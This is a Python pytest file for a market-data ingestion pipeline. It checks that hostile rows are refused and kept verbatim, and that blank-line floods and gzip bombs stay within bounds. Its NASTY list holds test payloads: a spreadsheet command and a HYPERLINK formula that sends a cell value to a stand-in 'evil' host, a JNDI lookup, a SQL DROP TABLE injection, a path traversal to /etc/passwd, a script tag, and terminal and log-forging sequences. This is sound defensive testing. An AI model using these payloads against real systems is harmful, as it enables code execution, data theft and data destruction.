"""Objects as an attack: what is bad is kept as it came, costs what its bytes cost, and becomes nothing internal."""

from __future__ import annotations

import gzip
import io
import json
import subprocess
import sys
from dataclasses import replace
from typing import TYPE_CHECKING

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from market_analytics.data_processor_ranges import reject_line
from tests.unit.tickstream.test_bad_objects import GOOD, HEADER, NS, decode
from tickstream.decoding import LIMITS, plain_rows
from tickstream.errors import ObjectRejected, Reason

if TYPE_CHECKING:
    from tickstream.decoding import Decoded

#: What a spreadsheet would run, a terminal would obey, or a reader of logs would believe. None has a line feed: that
#: ends a row.
NASTY = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1;"x")',
    "+1 -2",
    "-2 +3",
    "\t=1+1",
    "A\r=1+1",
    '{"level":"ERROR","message":"forged"}',
    "\u2028ERROR forged\u2029",
    "\x85ERROR forged",
    "\x1b[2J\x1b[1;1H\x1b]0;owned\x07",
    "\x9b2J",
    "$ {jndi:ldap://evil}",
    "'; DROP TABLE MarketDataState; --",
    "../../etc/passwd\t",
    "<script>alert('a b')</script>",
    "A\x00B",
    "\u202eLPAA",
]

INTERNAL = ["ingest#" + "0" * 32, "activity#1", "pending#0", "aggregator#lease", "idempotency#" + "0" * 32]


@pytest.mark.parametrize("nasty", NASTY, ids=ascii)
def test_a_nasty_row_is_kept_as_it_came(nasty: str) -> None:
    """A row that would do harm elsewhere is refused alone and stored to the byte, in one line that is only data."""
    # In quotes, so that what holds a comma or a quote is one field.
    row = f'"{nasty.replace(chr(34), chr(34) * 2)}",{NS},1,1,'
    [decoded] = decode(HEADER + GOOD + row.encode() + b"\n" + GOOD)
    assert decoded.ticks == 2
    [refused] = decoded.rejects
    assert refused.reason is Reason.BAD_SYMBOL
    # A reason is a sentence of ours, never a place for text of theirs.
    assert nasty not in refused.detail
    line = reject_line(refused)
    assert line.splitlines() == [line]
    assert json.loads(line)["raw"] == row.removesuffix("\r")


@pytest.mark.parametrize("symbol", INTERNAL)
def test_no_file_makes_internal_items(symbol: str) -> None:
    """In every format a symbol that names the pipeline's own items is refused, and the rows around it count."""
    rows = {"symbol": ["A", symbol, "A"], "timestamp": [int(NS)] * 3, "price": ["1"] * 3, "size": ["1"] * 3}
    parquet = io.BytesIO()
    pl.DataFrame(rows).write_parquet(parquet)
    written = pl.DataFrame(rows)
    for data in (written.write_csv().encode(), written.write_ndjson().encode(), parquet.getvalue()):
        [decoded] = decode(data)
        assert {name for name, _ in decoded.bars} == {"A"}
        assert decoded.ticks == 2
        assert [refused.reason for refused in decoded.rejects] == [Reason.BAD_SYMBOL]


def figures(decoded: Decoded) -> tuple[object, ...]:
    """What two decodings must have in common to be the same."""
    return dict(decoded.bars), decoded.ticks, decoded.rejects


@given(st.lists(st.sampled_from([b"", b"", b"\r", GOOD[:-1], GOOD[:-1] + b"\r", b"x", b"x" * 40]), max_size=30))
def test_blocks_of_many_lines_are_cut_without_a_trace(rows: list[bytes]) -> None:
    """Ticks, bars, rejects and their offsets are the same, in however small pieces the lines are decoded."""
    data = HEADER + b"\n".join(rows)
    whole = [figures(one) for one in decode(data)]
    most = plain_rows.MOST_LINES
    try:
        plain_rows.MOST_LINES = 1  # type: ignore[misc] # a smaller one
        assert [figures(one) for one in decode(data)] == whole
    finally:
        plain_rows.MOST_LINES = most  # type: ignore[misc] # as it was


BLANKS = {
    "csv": HEADER + GOOD + b"\n" * (8 << 20) + GOOD,
    "csv with carriage returns": HEADER + GOOD + b"\r\n" * (4 << 20) + GOOD,
    "json": b'{"symbol":"A","timestamp":%s,"price":1,"size":1}' % NS.encode() + b"\n" * (8 << 20),
}

_MEASURED = """
import resource, sys
from tests.unit.tickstream.test_hostile_objects import BLANKS, decode
data = BLANKS[sys.argv[1]]
decode(data[:4096])
before_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(sum(one.ticks for one in decode(data, 16 << 20)))
print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before_kb) // 1024)
"""


@pytest.mark.parametrize("name", BLANKS)
def test_i6_millions_of_blank_lines_take_little_memory(name: str) -> None:
    """Eight megabytes of line ends, which gzip makes of eight kilobytes, fit the smallest function many times over."""
    done = subprocess.run([sys.executable, "-c", _MEASURED, name], capture_output=True, text=True, check=True)
    ticks, grown_mib = map(int, done.stdout.split())
    assert ticks == (1 if name == "json" else 2)
    assert grown_mib < 256


def test_a_bomb_of_blank_lines_ends_at_the_bound() -> None:
    """What unpacks to nothing but line ends is refused at the same bound as any other bomb."""
    limits = replace(LIMITS, unpacked_bytes=32 << 20)
    packed = gzip.compress(HEADER + b"\n" * (33 << 20))
    assert len(packed) < 64 << 10
    with pytest.raises(ObjectRejected, match="too_large"):
        decode(packed, limits=limits)
